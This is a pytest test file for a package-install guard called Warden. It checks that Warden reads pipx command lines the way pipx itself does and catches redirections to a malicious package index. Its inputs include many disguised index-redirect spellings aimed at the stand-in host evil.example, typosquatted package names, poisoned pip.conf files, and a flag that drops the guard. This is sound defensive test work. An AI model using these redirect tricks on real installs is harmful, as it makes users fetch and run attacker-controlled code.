@@ -1,0 +1,339 @@
+"""Warden's reading of pipx command lines, held to the real pipx (red team red5 F4, L1).
+
+pipx (pinned in requirements-dev.txt) builds its argparse parser here; for a generated corpus of
+command lines (every command, every option in full, by each prefix, with ``=value``, attached
+and combined short options, ``--``, missing values, unknown options), whenever pipx's parser
+accepts a line, Warden either refuses it or reads the same options, values and positional
+words, and the same index. Lines no parser should accept are cut at every word: no reader
+path may raise.
+"""
+
+import argparse
+import contextlib
+import io
+import itertools
+import json
+import runpy
+import shlex
+from pathlib import Path
+
+import pytest
+
+from jupyterlab_warden.kernel.guard.installs import frontends, pipx_cli, pipx_request
+
+REPO = Path(__file__).resolve().parents[2]
+TABLE = json.loads((REPO / "schema" / "pipx-cli.json").read_text())["commands"]
+EVIL = "https://evil.example/simple"
+VALUES = {
+    "index_url": EVIL,
+    "pip_args": f" -i {EVIL}",  # a leading space: argparse takes it as a value, shlex drops it
+    "spec": "torcj",
+    "with_": "evil-pkg",
+    "preinstall": "evil-pkg",
+    "requirements": "req.txt",
+    "backend": "uv",
+    "python": "3.11",
+    "fetch_python": "3.12",
+    "cooldown": "3",
+    "output": "json",
+}
+# Positional words each command needs (so that pipx's parser accepts the line).
+POSITIONALS = {
+    "install": ["black"],
+    "inject": ["black", "evil-pkg"],
+    "upgrade": ["black"],
+    "run": ["black", "--index-url", EVIL],  # after the app: the app's own arguments
+    "runpip": ["black", "install", "torcj"],
+    "exec": ["black", "black", "--version"],
+    "uninject": ["black", "dep"],
+    "uninstall": ["black"],
+    "pin": ["black"],
+    "unpin": ["black"],
+    "expose": ["black"],
+    "unexpose": ["black"],
+    "reinstall": ["black"],
+    "install-all": ["spec.json"],
+    "manifest lock": ["m.toml"],
+    "manifest sync": ["m.toml"],
+}
+
+
+def _leaves():
+    return [k for k, v in TABLE.items() if k and "subcommands" not in v]
+
+
+def _spellings(option: str, options) -> list:
+    """The option in full and each of its prefixes that argparse may take (unique or not)."""
+    if not option.startswith("--"):
+        return [option]
+    return [option[:n] for n in range(3, len(option) + 1)]
+
+
+def _forms(command: str) -> list:
+    entry = TABLE[command]
+    options = entry["options"]
+    head, pos = command.split(), POSITIONALS.get(command, [])
+    lines = [head + pos, head + ["--"] + pos, head + pos + ["--zzz"], head + ["-Z"] + pos]
+    for option, (dest, arity) in options.items():
+        if dest == "help":
+            continue
+        value = VALUES.get(dest, "x")
+        for spelled in _spellings(option, options):
+            if arity == 0:
+                forms = [[spelled], [spelled + "=" + "1"]]
+            else:
+                forms = [[spelled, value], [spelled + "=" + value], [spelled]]
+                if not spelled.startswith("--"):
+                    forms.append([spelled + value])
+            for form in forms:
+                lines.append(head + form + pos)
+                lines.append(head + pos + form)
+    shorts = [o for o in options if not o.startswith("--") and options[o][0] != "help"]
+    for a, b in itertools.permutations(shorts, 2):
+        value = VALUES.get(options[b][0], "x")
+        lines.append(head + ["-" + a[1] + b[1]] + ([value] if options[b][1] else []) + pos)
+        if options[b][1]:
+            lines.append(head + ["-" + a[1] + b[1] + value] + pos)
+    return lines
+
+
+def corpus() -> list:
+    lines = [["--version"], ["--global", "list"], ["-q", "install", "black"], ["--ver"]]
+    for command in _leaves():
+        lines += _forms(command)
+    return lines
+
+
+@pytest.fixture(scope="module")
+def real_pipx(tmp_path_factory):
+    """pipx's own parser (``parse(words)`` -> its Namespace, or None when pipx refuses)."""
+    pytest.importorskip("pipx", reason="pipx is pinned in requirements-dev.txt")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("PIPX_HOME", str(tmp_path_factory.mktemp("pipx-home")))
+        from pipx.main import check_args, get_command_parser, parse_pipx_args
+
+        parser, _ = get_command_parser()
+
+        def defaults(command: str) -> dict:
+            sub = parser
+            for word in command.split():
+                action = next(a for a in sub._actions if isinstance(a, argparse._SubParsersAction))
+                sub = action.choices[word]
+            return {a.dest: sub.get_default(a.dest) for a in sub._actions if a.option_strings}
+
+        def parse(line):
+            quiet = (
+                contextlib.redirect_stderr(io.StringIO()),
+                contextlib.redirect_stdout(io.StringIO()),
+            )
+            try:
+                with quiet[0], quiet[1]:
+                    ns = parse_pipx_args(parser, list(line))
+                    check_args(ns)
+            except SystemExit:
+                return None
+            return ns
+
+        parse.defaults = defaults
+        yield parse
+
+
+def test_table_is_pipx_own(real_pipx):
+    script = runpy.run_path(str(REPO / "scripts" / "pipx-cli-table.py"))
+    assert script["text"]() == (REPO / "schema" / "pipx-cli.json").read_text()
+
+
+def _command(ns) -> str:
+    command = ns.command or ""
+    for group in ("interpreter_command", "cache_command", "manifest_command"):
+        if getattr(ns, group, None):
+            command += " " + getattr(ns, group)
+    return command
+
+
+def _expected(ns, defaults: dict) -> dict:
+    """What pipx's parser set: each option dest that differs from its default."""
+    out = {}
+    for dest, default in defaults.items():
+        value = getattr(ns, dest, None)
+        if dest == "help" or value == default:
+            continue
+        out[dest] = value
+    return out
+
+
+def _read(line, command: str) -> dict:
+    out = {}
+    options = TABLE[command]["options"]
+    for dest, option, value in line.options:
+        if options[option][1] == 0:
+            out[dest] = out.get(dest, 0) + 1
+        else:
+            out.setdefault(dest, []).append(value)
+    return out
+
+
+def _same(dest, pipx_value, warden_values) -> bool:
+    if isinstance(warden_values, int):
+        return warden_values > 0  # flags and counts: seen
+    if isinstance(pipx_value, list) and pipx_value and isinstance(pipx_value[0], str):
+        flat = [v for vs in warden_values for v in ([vs] if isinstance(vs, str) else vs)]
+        return pipx_value == flat or pipx_value == warden_values[-1]
+    return str(pipx_value) == str(warden_values[-1])
+
+
+def _positionals(ns, command: str) -> list:
+    words = []
+    for dest, _nargs in TABLE[command]["positionals"]:
+        value = getattr(ns, dest, None)
+        words += value if isinstance(value, list) else [] if value is None else [value]
+    return [str(w) for w in words]
+
+
+def test_warden_reads_every_line_pipx_accepts_as_pipx(real_pipx, tmp_path):
+    checked = refused = rejected = 0
+    for words in corpus():
+        ns = real_pipx(words)
+        if ns is None:
+            rejected += 1
+            continue
+        line = pipx_cli.parse(words)
+        if isinstance(line, str):
+            refused += 1
+            continue
+        checked += 1
+        command = _command(ns)
+        assert line.command == command, words
+        if "subcommands" in TABLE[command]:
+            continue
+        expected, read = _expected(ns, real_pipx.defaults(command)), _read(line, command)
+        assert set(expected) - {"fetch_python"} <= set(read), (words, expected, read)
+        for dest, value in expected.items():
+            if dest in read:
+                assert _same(dest, value, read[dest]), (words, dest, value, read[dest])
+        assert line.positionals + (line.remainder or []) == _positionals(ns, command), words
+        request = pipx_request.request(words, str(tmp_path), {"HOME": str(tmp_path)})
+        if request is not None and not request.problems and getattr(ns, "index_url", None):
+            assert ns.index_url in [s.url for s in request.sources], words
+    assert checked > 2000 and rejected > 1000, (checked, refused, rejected)
+
+
+def test_a_prefix_or_attached_index_is_read():
+    """The red team's spellings (F4): each names the evil index or is refused."""
+    for text in (
+        f"install --index-u={EVIL} black",
+        f"install --index {EVIL} black",
+        f"install -i{EVIL} black",
+        f"install -i={EVIL} black",
+        f"install -qfi{EVIL} black",
+        f"install --pip-arg='-i {EVIL}' black",
+        f"install --pip='--index-url={EVIL}' black",
+        f"run --sp=torcj --index-u {EVIL} black",
+        f"inject --index-u={EVIL} black torcj",
+        f"upgrade --index-u={EVIL} black",
+    ):
+        request = frontends.request("pipx", shlex.split(text), "/nonexistent", {})
+        urls = [s.url for s in request.sources]
+        assert EVIL in urls or request.problems, text
+
+
+def test_unknown_options_after_the_command_are_refused():
+    for text in ("install --zzz black", "install -Z black", "run --zzz black", "list --zzz"):
+        request = frontends.request("pipx", shlex.split(text), "/nonexistent", {})
+        assert request is not None and request.problems, text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"install --pip-args=--index-url={EVIL} --preinstall torcj --spec x black",
+        f"run --with torcj --spec black --index-url {EVIL} --backend uv black --x y",
+        f"inject -r req.txt --index-url {EVIL} --pip-args -i black torcj",
+        "runpip black install -i https://x/simple --extra-index-url https://y torcj",
+        "upgrade --global --backend pip --python 3.11 -i https://x black",
+        "interpreter list --output json",
+        "-qv --index-url x install black",
+    ],
+)
+def test_truncated_lines_never_raise(text, tmp_path):
+    words = shlex.split(text)
+    for n in range(len(words) + 1):
+        half = [words[n][: len(words[n]) // 2]] if n < len(words) else []
+        for cut in (words[:n], words[:n] + half):
+            line = pipx_cli.parse(cut)
+            assert isinstance(line, (str, pipx_cli.PipxLine))
+            request = frontends.request("pipx", cut, str(tmp_path), {"HOME": str(tmp_path)})
+            assert request is None or isinstance(request.problems, list)
+
+
+def test_a_prefixed_index_stops_a_real_pipx_process(guarded, tmp_path):
+    """Real processes: a stand-in `pipx` whose payload writes a marker. Without Warden the
+    prefixed redirect runs it; with Warden it is refused before it starts."""
+    from test_install_gate import POLICY
+
+    marker = tmp_path / "ran.txt"
+    pipx = tmp_path / "bin" / "pipx"
+    pipx.parent.mkdir()
+    pipx.write_text(f'#!/bin/sh\necho "$@" >> {marker}\n')
+    pipx.chmod(0o755)
+    argv = [str(pipx), "install", f"--index-u={EVIL}", "black"]
+    assert guarded(POLICY, argv, guarded=False)["exit"] == 0 and marker.exists()
+    marker.unlink()
+    refused = guarded(POLICY, argv)
+    assert refused["type"] == "WardenBlockedInstall", refused
+    assert "evil.example" in refused["refused"] and not marker.exists()
+
+
+def test_pip_conf_of_pipx_venvs_is_read(tmp_path):
+    """pip reads the pip.conf of the venv it runs in: pipx's shared libraries and the venv of
+    inject/upgrade/runpip (kernel side); pip's [install] section applies to every pipx install."""
+    home = tmp_path / "home"
+    pipx_home = home / ".local" / "share" / "pipx"
+    (pipx_home / "venvs" / "black").mkdir(parents=True)
+    (pipx_home / "shared").mkdir()
+    (pipx_home / "venvs" / "black" / "pip.conf").write_text(f"[install]\nindex-url = {EVIL}\n")
+    (pipx_home / "shared" / "pip.conf").write_text("[install]\nextra-index-url = https://e2.x\n")
+    env = {"HOME": str(home), "XDG_CONFIG_DIRS": str(home)}
+
+    def urls(command, **more):
+        found = pipx_request.request(shlex.split(command), str(tmp_path), dict(env, **more))
+        from jupyterlab_warden.kernel.guard.installs import sources
+
+        sources.add_implicit_sources(found, dict(env, **more), "pipx", str(tmp_path))
+        return {s.url for s in found.sources}
+
+    assert {EVIL, "https://e2.x"} <= urls("inject black isort")
+    assert {EVIL, "https://e2.x"} <= urls("runpip black install isort")
+    assert EVIL not in urls("install isort") and "https://e2.x" in urls("install isort")
+    import os
+
+    assert "https://e2.x" not in urls("install isort", PIP_CONFIG_FILE=os.devnull)
+
+
+def test_python_args_that_drop_the_guard_are_refused_in_the_kernel(tmp_path):
+    """`pipx run --python-args=-I APP`: the app's Python would start without the guard (kernel
+    only: the static side has no guard to lose)."""
+    from jupyterlab_warden.kernel.guard.installs.gate import read_requests
+
+    found = read_requests(None, "pipx run --python-args=-I black", {}, str(tmp_path))
+    assert any(r.problems for r in found)
+    assert not any(r.problems for r in read_requests(None, "pipx run black", {}, str(tmp_path)))
+
+
+PARSE_VECTORS = json.loads((REPO / "schema" / "vectors" / "pipx-parse.json").read_text())
+
+
+@pytest.mark.parametrize("vector", PARSE_VECTORS["vectors"], ids=lambda v: " ".join(v["args"]))
+def test_pipx_parse_vector(vector):
+    """The shared pipx reading (schema/vectors/pipx-parse.json; src/deps/pipx.spec.ts runs it
+    on the static side)."""
+    line = pipx_cli.parse(vector["args"])
+    if isinstance(line, str):
+        assert vector["expect"] == {"refused": True}, line
+    else:
+        assert {
+            "command": line.command,
+            "options": [list(o) for o in line.options],
+            "positionals": line.positionals,
+            "remainder": line.remainder,
+        } == vector["expect"]
